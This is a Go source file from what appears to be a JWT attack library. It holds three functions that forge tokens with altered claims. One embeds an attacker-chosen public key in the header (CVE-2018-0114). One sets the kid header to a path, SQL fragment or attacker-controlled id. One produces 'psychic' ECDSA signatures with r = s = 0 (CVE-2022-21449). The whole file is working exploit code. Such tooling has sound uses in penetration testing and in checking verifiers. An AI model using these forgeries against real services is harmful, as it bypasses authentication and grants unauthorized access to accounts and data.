package jose

import (
	"crypto"
	"crypto/rsa"
	"encoding/json"
	"fmt"
)

// EmbeddedJWK returns the token with claims changed by set, our public key
// embedded as the header's jwk and signed with the matching private key: a
// verifier that trusts the embedded key accepts anyone's token
// (CVE-2018-0114). RSA keys sign with the token's RS/PS alg when it has one,
// else RS256; EC keys with the alg of their curve.
func EmbeddedJWK(t *Token, set map[string]any, key crypto.Signer) (string, error) {
	alg := ""
	if _, ok := key.(*rsa.PrivateKey); ok {
		if a := t.Alg(); len(a) == 5 && (a[:2] == "RS" || a[:2] == "PS") {
			alg = a
		}
	}
	s, err := SignerFor(key, alg)
	if err != nil {
		return "", fmt.Errorf("embedded jwk: %w", err)
	}
	jwk, err := JWK{Key: key.Public()}.MarshalJSON()
	if err != nil {
		return "", fmt.Errorf("embedded jwk: %w", err)
	}
	// Other key references would compete with the embedded key.
	h, err := SetHeader(t.HeaderJSON, map[string]any{"jwk": json.RawMessage(jwk)}, "x5c", "x5u", "jku")
	if err != nil {
		return "", err
	}
	p, err := SetClaims(t.PayloadJSON, set)
	if err != nil {
		return "", err
	}
	return Sign(h, p, s)
}

// WithKid returns the token with its header kid set to kid (a path, a SQL
// fragment, a key id the attacker controls), claims changed by set, and
// signed by s.
func WithKid(t *Token, kid string, set map[string]any, s Signer) (string, error) {
	h, err := SetHeader(t.HeaderJSON, map[string]any{"kid": kid})
	if err != nil {
		return "", err
	}
	p, err := SetClaims(t.PayloadJSON, set)
	if err != nil {
		return "", err
	}
	return Sign(h, p, s)
}

// PsychicSignature returns the token with claims changed by set, declared
// ES256 (ES384 or ES512 when the token already is) and signed with r = s = 0:
// accepted by ECDSA verifiers that skip the range check (CVE-2022-21449).
func PsychicSignature(t *Token, set map[string]any) (string, error) {
	alg, n := "ES256", 32
	switch t.Alg() {
	case "ES384":
		alg, n = "ES384", 48
	case "ES512":
		alg, n = "ES512", 66
	}
	h, err := SetHeader(t.HeaderJSON, map[string]any{"alg": alg})
	if err != nil {
		return "", err
	}
	p, err := SetClaims(t.PayloadJSON, set)
	if err != nil {
		return "", err
	}
	return Assemble(h, p, B64(make([]byte, 2*n))), nil
}
